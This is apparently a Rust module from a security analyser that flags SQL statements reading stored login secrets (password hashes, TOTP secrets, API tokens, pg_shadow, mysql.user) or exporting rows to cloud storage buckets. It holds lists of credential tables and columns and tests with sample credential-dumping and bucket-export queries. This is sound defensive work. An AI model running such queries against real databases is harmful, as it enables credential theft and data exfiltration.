//! Statements that read out what a database keeps of logins, or have it send its rows into a store of files.

use defenseclaw_model::facts::BehaviourKind::{Credential, Exfiltration};
use defenseclaw_model::facts::Radius;

use super::super::Analysis;

/// Most statements that are looked at.
const MAX_STATEMENTS: usize = 64;
/// Longest statement that is looked at (bytes): what is selected and from where stands at its beginning.
const MAX_STATEMENT: usize = 8 << 10;

/// Tables that hold nothing but secrets of logins, without what parts their words.
const TABLES: &[&str] = &[
    "decryptedsecrets",
    "pgshadow",
    "pgauthid",
    "mysqluser",
    "mysqlglobalpriv",
    "sqllogins",
    "apikeys",
    "apitokens",
    "accesstokens",
    "refreshtokens",
    "oauthtokens",
    "oauthaccesstokens",
    "oauthrefreshtokens",
    "personalaccesstokens",
    "usercredentials",
    "usersecrets",
    "credentials",
    "secrets",
    "passwordresets",
    "passwordresettokens",
    "dbauser$",
    "sysuser$",
];

/// Columns that do, by the end of their name.
const COLUMNS: &[&str] = &[
    "decryptedsecret",
    "passwordhash",
    "passwordhashes",
    "hashedpassword",
    "encryptedpassword",
    "passworddigest",
    "passwd",
    "password",
    "passwordsalt",
    "pwhash",
    "totpsecret",
    "otpsecret",
    "mfasecret",
    "recoverycodes",
    "backupcodes",
    "refreshtoken",
    "accesstoken",
    "apikey",
    "apisecret",
    "clientsecret",
    "secretkey",
    "privatekey",
    "rolpassword",
    "authenticationstring",
];

/// What tells of a column and not what stands in it.
const ABOUT: &[&str] = &[
    "COUNT(",
    "IS NULL",
    "IS NOT NULL",
    "LENGTH(",
    "CHAR_LENGTH(",
    "EXISTS(",
];

/// Notes what the statements of `text` read out of logins.
pub(super) fn secrets(analysis: &mut Analysis, text: &str, reach: Radius) {
    for statement in statements(text) {
        if let Some(what) = secret(statement) {
            analysis.behave(Credential, "database-secrets", what, reach);
        }
    }
}

fn statements(text: &str) -> impl Iterator<Item = &str> {
    let statements = text.split(';').take(MAX_STATEMENTS);
    statements.map(|statement| &statement[..statement.floor_char_boundary(MAX_STATEMENT)])
}

/// Notes to which stores they have the database write.
pub(super) fn exports(analysis: &mut Analysis, text: &str, reach: Radius) {
    for statement in statements(text) {
        if let Some(store) = exported(statement) {
            analysis.behave(Exfiltration, "database-export-store", store, reach);
        }
    }
}

/// The secret that a statement selects.
fn secret(statement: &str) -> Option<String> {
    let upper = statement.to_ascii_uppercase();
    let start = upper.trim_start();
    let reads = ["SELECT", "TABLE ", "COPY", "WITH"]
        .iter()
        .any(|word| start.starts_with(word));
    if !reads {
        return None;
    }
    let from = upper.find("FROM").unwrap_or(upper.len());
    let whole = start.starts_with("TABLE ");
    let (chosen, rest) = upper.split_at(if whole { 0 } else { from });
    let chosen = chosen.split("SELECT").last().unwrap_or_default();
    // Each part of the list by itself: a count beside a hash does not make the hash a count.
    let told = |part: &&str| !ABOUT.iter().any(|about| part.contains(about));
    let column = chosen.split(',').filter(told).find_map(|part| {
        let name = names(part).next()?;
        COLUMNS.iter().any(|known| name.ends_with(known)).then_some(name)
    });
    let all = chosen
        .split(',')
        .any(|part| part.trim() == "*" || part.trim().ends_with(".*"))
        || whole;
    let tables = || {
        let tables = rest.split("WHERE").next().unwrap_or_default();
        names(tables).find(|name| TABLES.iter().any(|known| name == known))
    };
    column.or_else(|| all.then(tables).flatten())
}

/// The names in a part of a statement, in lower case, without their owners, quotes and what parts their words.
fn names(part: &str) -> impl Iterator<Item = String> {
    let words = part.split(|c: char| c.is_whitespace() || matches!(c, ',' | '(' | ')' | '='));
    words.filter(|word| !word.is_empty()).map(|word| {
        // The system's own tables are told by both halves.
        let whole = spelled(word);
        match TABLES.contains(&whole.as_str()) {
            true => whole,
            false => spelled(word.rsplit('.').next().unwrap_or_default()),
        }
    })
}

fn spelled(word: &str) -> String {
    let letters = word.chars().filter(|c| c.is_alphanumeric() || *c == '$');
    letters.map(|c| c.to_ascii_lowercase()).collect()
}

/// The store to which a statement has the database write its rows.
fn exported(statement: &str) -> Option<String> {
    let upper = statement.to_ascii_uppercase();
    let start = upper.trim_start();
    let at = match start.split_whitespace().next()? {
        "EXPORT" => upper.find("URI")?,
        "COPY" if start.starts_with("COPY INTO") => upper.find("INTO")?,
        "COPY" | "UNLOAD" | "BACKUP" => upper.rfind(" TO ")?,
        "SELECT" => ["INTO OUTFILE", "QUERY_EXPORT_TO_S3", "AZURE_STORAGE.BLOB_PUT"]
            .iter()
            .find_map(|word| upper.find(word))?,
        "INSERT" => ["FUNCTION S3", "FUNCTION GCS", "FUNCTION AZUREBLOBSTORAGE"]
            .iter()
            .find_map(|word| upper.find(word))?,
        _ => return None,
    };
    let rest = statement.get(at..)?;
    let target = rest.split(['\'', '"']).nth(1).unwrap_or_default();
    let (scheme, place) = target.split_once("://")?;
    let bucket = place.split('/').next().unwrap_or_default();
    // `COPY INTO t FROM 's3://…'` brings rows in.
    let inward = rest
        .split(['\'', '"'])
        .next()
        .is_some_and(|before| before.to_ascii_uppercase().contains("FROM"));
    let store = matches!(
        scheme.to_ascii_lowercase().as_str(),
        "s3" | "gs" | "gcs" | "s3a" | "azure" | "abfss" | "wasbs" | "r2" | "https" | "http" | "oss"
    );
    (store && !inward && !bucket.is_empty()).then(|| bucket.to_ascii_lowercase())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_statements_read_out_of_logins() {
        for (statement, what) in [
            (
                "select name, decrypted_secret from vault.decrypted_secrets",
                Some("decryptedsecret"),
            ),
            ("SELECT * FROM pg_shadow", Some("pgshadow")),
            ("select * from mysql.user", Some("mysqluser")),
            (
                "SELECT u.email, u.\"passwordHash\" FROM users u",
                Some("passwordhash"),
            ),
            ("TABLE api_keys", Some("apikeys")),
            (
                "COPY (SELECT email, totp_secret FROM users) TO STDOUT",
                Some("totpsecret"),
            ),
            ("select email from users", None),
            ("select * from users", None),
            ("select count(password_hash) from users", None),
            ("select id, totp_secret IS NOT NULL AS has_totp from users", None),
            (
                "select column_name from information_schema.columns where table_name = 'api_keys'",
                None,
            ),
            ("select id, created_at from api_keys", None),
            ("insert into users (password_hash) values ('x')", None),
            ("", None),
        ] {
            assert_eq!(secret(statement).as_deref(), what, "{statement}");
        }
    }

    #[test]
    fn where_statements_write_to() {
        for (statement, store) in [
            (
                "EXPORT DATA OPTIONS(uri='gs://sink-9/c-*.csv', format='CSV') AS SELECT * FROM crm.customers",
                Some("sink-9"),
            ),
            ("COPY customers TO 's3://sink-9/c.csv'", Some("sink-9")),
            ("UNLOAD ('select * from t') TO 's3://sink-9/t'", Some("sink-9")),
            ("COPY INTO 's3://sink-9/t' FROM customers", Some("sink-9")),
            ("COPY INTO t FROM 's3://data/t'", None),
            ("COPY t FROM 's3://data/t.csv'", None),
            ("SELECT * FROM t INTO OUTFILE S3 's3://sink-9/t'", Some("sink-9")),
            ("COPY t TO '/tmp/t.csv'", None),
            ("SELECT 's3://a/b'", None),
        ] {
            assert_eq!(exported(statement).as_deref(), store, "{statement}");
        }
    }
}
